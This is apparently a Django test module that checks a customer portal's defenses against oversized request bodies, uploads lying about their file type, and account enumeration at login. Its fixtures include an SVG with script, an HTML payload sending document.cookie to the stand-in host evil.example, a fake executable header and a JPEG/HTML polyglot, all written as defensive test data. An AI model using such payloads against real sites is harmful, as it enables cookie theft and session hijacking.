"""Abuse: oversized bodies, uploads that lie about what they are, and enumerating accounts.

Proven elsewhere and not repeated here: login throttling per account and per address on
the API (tests/accounts/test_api.py::test_repeated_wrong_passwords_for_one_account_are_throttled,
::test_throttling_one_account_leaves_others_alone,
::test_one_address_trying_many_accounts_is_throttled) and on the login page
(tests/accounts/test_views.py::test_login_page_is_throttled_too); the webhook's size cap
(tests/crm/test_webhook.py::test_a_body_over_the_limit_is_refused_before_anything_else);
upload types by content (tests/verification/test_services.py, tests/verification/test_api.py);
`manage.py check --deploy` with production settings
(tests/portal/test_settings.py::test_check_deploy_is_clean_with_production_settings).
"""

from __future__ import annotations

from typing import Any

import pytest
from django.test import Client

from accounts.models import ResidenceCardVerification
from crm.models import CrmEvent
from tests.accounts.support import JPEG, upload
from tests.crm.support import EVENTS_URL
from tests.factories import PASSWORD, CustomerFactory, StaffUserFactory

pytestmark = pytest.mark.django_db


# --- Oversized and overfull requests ------------------------------------------------------


def test_an_api_body_over_the_servers_limit_is_a_413_in_the_error_shape(api, settings):
    settings.DATA_UPLOAD_MAX_MEMORY_SIZE = 1024
    body = b'{"planCode": "' + b"x" * 2048 + b'"}'
    response = api.generic("POST", "/api/orders", body, content_type="application/json")
    assert response.status_code == 413
    assert response.json()["error"]["code"] == "payload_too_large"


def test_too_many_multipart_fields_are_a_400_in_the_error_shape(api, settings):
    settings.DATA_UPLOAD_MAX_NUMBER_FIELDS = 10
    boundary = "portal-boundary"
    parts = "".join(
        f'--{boundary}\r\nContent-Disposition: form-data; name="field{n}"\r\n\r\n1\r\n'
        for n in range(50)
    )
    body = (parts + f"--{boundary}--\r\n").encode()
    response = api.generic(
        "POST",
        "/api/me/residence-card",
        body,
        content_type=f"multipart/form-data; boundary={boundary}",
    )
    assert response.status_code == 400
    assert response.json()["error"]["code"] == "validation_error"


def test_a_form_body_where_json_is_expected_is_a_415_in_the_error_shape(api):
    body = b"planCode=sim-data-3gb"
    response = api.generic(
        "POST", "/api/orders", body, content_type="application/x-www-form-urlencoded"
    )
    assert response.status_code == 415
    assert response.json()["error"]["code"] == "unsupported_media_type"


@pytest.mark.parametrize(
    "content_type", ["application/json", "text/plain", "application/x-www-form-urlencoded"]
)
def test_the_webhook_caps_the_body_whatever_its_declared_type(client, settings, content_type):
    settings.CRM_WEBHOOK_SECRET = "secret"
    settings.CRM_WEBHOOK_MAX_BODY_BYTES = 512
    response = client.generic("POST", EVENTS_URL, b"a" * 513, content_type=content_type)
    assert response.status_code == 413
    assert response.json()["error"]["code"] == "payload_too_large"
    assert not CrmEvent.objects.exists()


# --- Uploads that are not what they claim -------------------------------------------------

SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
HTML = b"<!doctype html><script>document.location='https://evil.example/'+document.cookie</script>"


@pytest.mark.parametrize(
    ("name", "content", "declared"),
    [
        ("card.png", SVG, "image/png"),
        ("card.jpg", HTML, "image/jpeg"),
        ("card.pdf", b"MZ\x90\x00" + b"\x00" * 64, "application/pdf"),  # a Windows program
    ],
    ids=["svg-with-script", "html", "executable"],
)
def test_a_file_named_and_typed_as_an_image_but_not_one_is_refused(api, name, content, declared):
    response = api.post(
        "/api/me/residence-card",
        {"front": upload(name, content, declared), "back": upload("back.jpg", JPEG)},
        format="multipart",
    )
    assert response.status_code == 400
    assert list(response.json()["error"]["fields"]) == ["front"]
    assert not ResidenceCardVerification.objects.exclude(front_image="").exists()


def test_a_stored_card_is_served_to_staff_only_as_the_type_its_bytes_have(api, customer):
    # JPEG bytes followed by markup: accepted as a JPEG, and never served as anything else.
    polyglot = JPEG + HTML
    api.post(
        "/api/me/residence-card",
        {"front": upload("card.html", polyglot, "text/html"), "back": upload("b.jpg", JPEG)},
        format="multipart",
    )
    verification = ResidenceCardVerification.objects.get(customer=customer)
    path = f"/admin/accounts/residencecardverification/{verification.pk}/image/front/"

    owner = Client()
    owner.force_login(customer.user)
    assert owner.get(path).status_code == 302  # to the admin login: not even its owner

    staff = Client()
    staff.force_login(StaffUserFactory())
    response = staff.get(path)
    assert response.status_code == 200
    assert response["Content-Type"] == "image/jpeg"
    assert response["X-Content-Type-Options"] == "nosniff"
    assert "no-store" in response["Cache-Control"]
    assert "default-src 'self'" in response["Content-Security-Policy"]
    assert not response["Content-Disposition"].endswith('.html"')


# --- Enumerating accounts -----------------------------------------------------------------


def _login_page(client: Client, email: str, password: str) -> Any:
    return client.post("/login", {"email": email, "password": password})


def _error_text(response: Any) -> str:
    """The page without the email typed back into the form and the per-request token."""
    page = response.content.decode()
    start = page.index('class="form-error')
    return page[start : page.index("</", start)]


def test_the_login_page_says_the_same_for_an_unknown_email_and_a_wrong_password(client):
    customer = CustomerFactory()
    wrong = _login_page(client, customer.user.email, "wrong password")
    unknown = _login_page(client, "nobody@example.com", "wrong password")
    assert wrong.status_code == unknown.status_code == 200
    assert _error_text(wrong) == _error_text(unknown)
    assert "The email or password is not correct." in _error_text(unknown)


def test_an_unknown_email_is_throttled_exactly_like_a_real_account(client, settings):
    customer = CustomerFactory()
    answers = {}
    for email in (customer.user.email, "nobody@example.com"):
        for _ in range(settings.LOGIN_FAILURE_LIMIT):
            _login_page(client, email, "wrong password")
        answers[email] = _login_page(client, email, PASSWORD)
    real, unknown = answers[customer.user.email], answers["nobody@example.com"]
    assert real.status_code == unknown.status_code == 429
    assert _error_text(real) == _error_text(unknown)


def test_the_api_throttles_an_unknown_email_exactly_like_a_real_account(anonymous_api, settings):
    customer = CustomerFactory()
    bodies = {}
    for email in (customer.user.email, "nobody@example.com"):
        for _ in range(settings.LOGIN_FAILURE_LIMIT):
            anonymous_api.post("/api/auth/token", {"email": email, "password": "x"}, format="json")
        response = anonymous_api.post(
            "/api/auth/token", {"email": email, "password": PASSWORD}, format="json"
        )
        bodies[email] = (response.status_code, response.json())
    assert bodies[customer.user.email] == bodies["nobody@example.com"]
    assert bodies["nobody@example.com"][0] == 429
